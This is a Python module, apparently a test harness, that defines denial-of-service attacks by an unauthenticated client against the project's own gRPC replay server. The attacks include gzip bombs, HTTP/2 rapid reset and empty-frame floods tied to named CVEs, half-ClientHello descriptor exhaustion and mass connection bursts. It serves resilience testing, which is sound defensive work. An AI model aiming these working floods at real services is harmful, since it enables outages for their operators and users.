"""Attacks without a token, by anyone who can reach the port."""

from __future__ import annotations

import itertools
import socket
import ssl
import struct
import zlib
from contextlib import ExitStack, suppress
from typing import Final

import grpc
import psutil
from grpc_health.v1 import health_pb2
from grpc_reflection.v1alpha import reflection_pb2
from hyperframe.frame import DataFrame, Frame, PingFrame, RstStreamFrame
from replay_proto.v1 import replay_pb2

from tests.support.access import WRITE
from tests.support.deadlines import wait_until
from tests.support.http2 import GRPC_HEAD, Http2, RawFrames, header_block, opening
from tools.attacks.arena import OWNER, THEIRS, Arena
from tools.attacks.attack import Attack, Setup, Target, call

SERVICE: Final = "/replay.v1.ReplayService"
MB: Final = 1 << 20
_PART: Final = bytes(MB)
_GZIP_HEAD: Final = b"\x1f\x8b\x08\0\0\0\0\0\0\xff"
_LAST_STREAM: Final = (1 << 31) - 1
_SOON_S: Final = 10.0
"""Time limit for serving a new client, and for refusing a removed token."""


def gzip_bomb(unpacked_mb: int) -> bytes:
    """A compressed message of zeros, which expands about a thousandfold."""
    packing = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
    part = packing.compress(_PART) + packing.flush(zlib.Z_FULL_FLUSH)
    checksum = 0
    for _ in range(unpacked_mb):
        checksum = zlib.crc32(_PART, checksum)
    packed = _GZIP_HEAD + part * unpacked_mb + packing.flush() + struct.pack("<II", checksum, unpacked_mb * MB)
    return GRPC_HEAD.pack(1, len(packed)) + packed


class Stranger(Attack):
    """Base class: an attacker without a token, who must have almost no effect."""

    most_log_bytes = 100_000


class BusyPrograms(Stranger):
    """Uses the attackers' CPU time without an attack, as a baseline."""

    name = "control: two programs that load the attackers' CPU cores without attacking"
    processes = 2

    def act(self, target: Target) -> None:
        while target.goes_on():
            pass


class GzipBombs(Stranger):
    """Sends messages that decompress to a thousand times their size, six at a time."""

    name = "6 gzip bombs of 1 MB on the wire each, repeatedly"
    method = f"{SERVICE}/Insert"
    unpacked_mb = 960

    def prepare(self, arena: Arena) -> None:
        self.bomb = gzip_bomb(self.unpacked_mb)

    def act(self, target: Target) -> None:
        while target.goes_on():
            with suppress(OSError), Http2(target.connect_tls()) as link:
                calls = [link.begin(self.method, [("grpc-encoding", "gzip")]) for _ in range(6)]
                for number in calls:
                    link.send(number, self.bomb, is_last=True, patience_s=min(1.0, target.left_s))
                while target.goes_on() and not all(map(link.has_ended, calls)):
                    link.read(0.1)


class LargeBodies(Stranger):
    """Sends messages of 400 MB, four at a time, as fast as the server accepts them."""

    name = "4 messages of 400 MB each, in parallel"
    processes = 2
    size_mb = 400
    held_back = 0
    calls = 2

    def act(self, target: Target) -> None:
        head = GRPC_HEAD.pack(0, self.size_mb * MB)
        while target.goes_on():
            with suppress(OSError), Http2(target.connect_tls()) as link:
                calls = [link.begin(f"{SERVICE}/Insert") for _ in range(self.calls)]
                for number in calls:
                    link.send(number, head)
                for part in itertools.repeat(_PART, self.size_mb - 1):
                    if not target.goes_on():
                        return
                    for number in calls:
                        link.send(number, part, patience_s=min(1.0, target.left_s))
                for number in calls:
                    link.send(number, _PART[self.held_back :], is_last=not self.held_back, patience_s=target.left_s)
                while target.goes_on() and not all(map(link.has_ended, calls)):
                    link.read(0.1)


class HeldBodies(LargeBodies):
    """Sends all but the last byte of a message, and waits."""

    name = "3 messages of 1 GB, each with its last byte withheld"
    processes = 1
    size_mb = 1023
    held_back = 1
    calls = 3


class RapidReset(Stranger):
    """Starts calls and resets each one immediately, as fast as one connection allows (CVE-2023-44487)."""

    name = "rapid reset on one connection"
    path = f"{SERVICE}/Sample"
    _BURST: Final = 400

    def act(self, target: Target) -> None:
        block = header_block(self.path)
        while target.goes_on():
            with suppress(OSError), RawFrames(target.connect_tls()) as link:
                for first in range(1, _LAST_STREAM, 2 * self._BURST):
                    if not target.goes_on():
                        return
                    link.send(self._calls(first, block))

    def _calls(self, first: int, block: bytes) -> list[Frame]:
        frames: list[Frame] = []
        for number in range(first, first + 2 * self._BURST, 2):
            frames += [opening(number, block), RstStreamFrame(number, error_code=8)]
        return frames


class HalfHellosUntilNoDescriptorIsLeft(Stranger):
    """Opens connections with half a ClientHello each until the server accepts no more.

    A token is revoked meanwhile, which must still take effect. Afterwards, new connections must work again.
    """

    name = "connections that send half a ClientHello and stay open, until no descriptors are left"
    setup = Setup(descriptors=200)
    least_s = 4.0

    def prepare(self, arena: Arena) -> None:
        arena.bystander.newcomers(False)
        arena.mine("kept", capacity=10)

    def act(self, target: Target) -> None:
        hold_half_hellos(target, 400)

    def meanwhile(self, arena: Arena) -> None:
        server = psutil.Process(arena.server.pid)
        wait_until(lambda: server.num_fds() >= 140, "connections are refused", self.least_s / 2)
        arena.write_tokens(WRITE)

    def check(self, arena: Arena) -> None:
        arena.bystander.newcomers(True)
        target = arena.target()
        describe = replay_pb2.DescribeTableRequest(table="mine-kept")

        def code(token: str) -> grpc.StatusCode:
            with target.channel() as channel:
                return call(channel, f"{SERVICE}/DescribeTable", describe, token, 5.0).code

        wait_until(lambda: code(OWNER) is grpc.StatusCode.OK, "a newcomer is served", _SOON_S)
        try:
            wait_until(lambda: code(WRITE) is grpc.StatusCode.UNAUTHENTICATED, "the token is refused", _SOON_S)
        finally:
            arena.write_tokens()


def hold_half_hellos(target: Target, most: int) -> None:
    """Keep connections with half a ClientHello each open until the end."""
    half = client_hello()[:120]
    with ExitStack() as stack:
        while target.goes_on() and target.tries <= most:
            with suppress(OSError):
                stack.enter_context(target.connect()).sendall(half)
        target.wait()


class GarbageHandshakes(Stranger):
    """Connects, sends something other than TLS, and disconnects."""

    name = "connections that send garbage instead of a TLS handshake"
    processes = 2

    def act(self, target: Target) -> None:
        while target.goes_on():
            with suppress(OSError), target.connect() as connection:
                connection.sendall(b"GET / HTTP/1.1\r\n\r\n")
                connection.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, b"\1\0\0\0\0\0\0\0")


class HalfHellos(GarbageHandshakes):
    """Repeatedly sends the first half of a TLS ClientHello and disconnects."""

    name = "connections that send half a ClientHello and close, repeatedly"

    def act(self, target: Target) -> None:
        half = client_hello()[:120]
        while target.goes_on():
            with suppress(OSError), target.connect() as connection:
                connection.sendall(half)


class Handshakes(GarbageHandshakes):
    """Repeatedly completes a TLS handshake and disconnects."""

    name = "TLS handshakes, one after another"

    def act(self, target: Target) -> None:
        while target.goes_on():
            with suppress(OSError), target.connect_tls():
                pass


def client_hello() -> bytes:
    """First bytes of a TLS client."""
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    client = ssl.create_default_context().wrap_bio(incoming, outgoing, server_hostname="localhost")
    with suppress(ssl.SSLWantReadError):
        client.do_handshake()
    return outgoing.read()


class RefusedCalls(Stranger):
    """Makes as many calls without a token as the connection allows."""

    name = "calls without a token, as many as one connection allows"
    path = f"{SERVICE}/Sample"
    message = replay_pb2.SampleRequest(table=THEIRS, draw=replay_pb2.Draw(batch_size=256)).SerializeToString()
    metadata: tuple[tuple[str, str], ...] = ()
    burst = 100

    def act(self, target: Target) -> None:
        block = header_block(self.path, self.metadata)
        body = GRPC_HEAD.pack(0, len(self.message)) + self.message
        while target.goes_on():
            with suppress(OSError), RawFrames(target.connect_tls()) as link:
                for first in range(1, _LAST_STREAM, 2 * self.burst):
                    if not target.goes_on():
                        return
                    link.send(self._calls(first, block, body))

    def _calls(self, first: int, block: bytes, body: bytes) -> list[Frame]:
        frames: list[Frame] = []
        for number in range(first, first + 2 * self.burst, 2):
            frames += [opening(number, block), DataFrame(number, body, flags=["END_STREAM"])]
        return frames


class HealthCalls(RefusedCalls):
    """Calls the health service, which requires no token."""

    name = "calls to the health service"
    path = "/grpc.health.v1.Health/Check"
    message = b""


class ReflectionCalls(RefusedCalls):
    """Calls the reflection service, which requires no token."""

    name = "calls to the reflection service"
    path = "/grpc.reflection.v1alpha.ServerReflection/ServerReflectionInfo"
    message = reflection_pb2.ServerReflectionRequest(
        file_containing_symbol="replay.v1.ReplayService"
    ).SerializeToString()


class Metadata(RefusedCalls):
    """Makes calls with as much metadata as gRPC allows."""

    name = "calls with 7 KB of metadata"
    metadata = tuple((f"x-{number}", "a" * 700) for number in range(10))
    burst = 20


class Bursts(Stranger):
    """Opens almost as many connections as the server allows, then starts calls on all of them at once, repeatedly.

    gRPC receives these calls faster than the server can handle them.
    """

    name = "19,000 calls at once on 190 connections, repeatedly"
    least_s = 3.0
    _CONNECTIONS: Final = 190
    _CALLS: Final = 100
    _METADATA: Final = tuple((f"x-{number}", "a" * 700) for number in range(5))

    def act(self, target: Target) -> None:
        block = header_block(f"{SERVICE}/Insert", self._METADATA)
        while target.goes_on():
            with ExitStack() as stack, suppress(OSError):
                links: list[RawFrames] = []
                while target.goes_on() and len(links) < self._CONNECTIONS:
                    links.append(stack.enter_context(RawFrames(target.connect_tls())))
                for first in range(1, _LAST_STREAM, 2 * self._CALLS):
                    numbers = range(first, first + 2 * self._CALLS, 2)
                    calls = b"".join(opening(number, block, is_whole=True).serialize() for number in numbers)
                    for link in links:
                        if not target.goes_on():
                            return
                        link.send_bytes(calls)


class Pings(Stranger):
    """Floods a connection with pings."""

    name = "a flood of pings"

    def act(self, target: Target) -> None:
        self._flood(target, b"", PingFrame(0, b"12345678").serialize() * 1000)

    def _flood(self, target: Target, beginning: bytes, frames: bytes) -> None:
        while target.goes_on():
            with suppress(OSError), RawFrames(target.connect_tls()) as link:
                link.send_bytes(beginning)
                while target.goes_on():
                    link.send_bytes(frames)


class EmptyFrames(Pings):
    """Starts a call, and floods it with empty frames (CVE-2019-9518)."""

    name = "a flood of empty frames"

    def act(self, target: Target) -> None:
        begun = opening(1, header_block(f"{SERVICE}/Write")).serialize()
        self._flood(target, begun, DataFrame(1, b"").serialize() * 1000)


class SilentConnections(Stranger):
    """Opens connections and sends nothing."""

    name = "3,000 silent connections"
    most = 3000

    def act(self, target: Target) -> None:
        with ExitStack() as stack:
            while target.goes_on() and target.tries <= self.most:
                with suppress(OSError):
                    stack.enter_context(self._open(target))
            target.wait()

    def _open(self, target: Target) -> socket.socket:
        return target.connect()


class HeldHalfHellos(Stranger):
    """Opens connections with half a ClientHello each. At the maximum, the server accepts no new connections."""

    name = "3,000 connections that send half a ClientHello and stay open"

    def prepare(self, arena: Arena) -> None:
        arena.bystander.newcomers(False)

    def act(self, target: Target) -> None:
        hold_half_hellos(target, 3000)

    def check(self, arena: Arena) -> None:
        arena.bystander.newcomers(True)


class DeafConnections(SilentConnections):
    """Opens connections, starts calls on them, and then responds to nothing, not even to pings."""

    name = "1,000 connections that do not answer pings"
    setup = Setup(flags=("--keepalive-s", "0.5"))
    most = 1000

    def act(self, target: Target) -> None:
        begun = opening(1, header_block(f"{SERVICE}/Write"))
        with ExitStack() as stack:
            while target.goes_on() and target.tries <= self.most:
                with suppress(OSError):
                    link = stack.enter_context(RawFrames(target.connect_tls(), reads=False))
                    link.send([begun])
            target.wait()


class WatchStreams(Stranger):
    """Opens streams that watch the server's health, and keeps them open."""

    name = "20,000 streams that watch the server's health"
    most = 20_000
    message = health_pb2.HealthCheckRequest().SerializeToString()

    def act(self, target: Target) -> None:
        block = header_block("/grpc.health.v1.Health/Watch")
        body = GRPC_HEAD.pack(0, len(self.message)) + self.message
        with ExitStack() as stack:
            while target.goes_on() and 100 * target.tries <= self.most:
                with suppress(OSError):
                    link = stack.enter_context(RawFrames(target.connect_tls()))
                    for number in range(1, 200, 2):
                        link.send([opening(number, block), DataFrame(number, body, flags=["END_STREAM"])])
            target.wait()


ATTACKS: Final[tuple[type[Attack], ...]] = (
    BusyPrograms,
    GzipBombs,
    LargeBodies,
    HeldBodies,
    RapidReset,
    HalfHellosUntilNoDescriptorIsLeft,
    GarbageHandshakes,
    RefusedCalls,
    HalfHellos,
    Handshakes,
    Pings,
    EmptyFrames,
    HealthCalls,
    ReflectionCalls,
    Metadata,
    Bursts,
    SilentConnections,
    HeldHalfHellos,
    WatchStreams,
    DeafConnections,
)
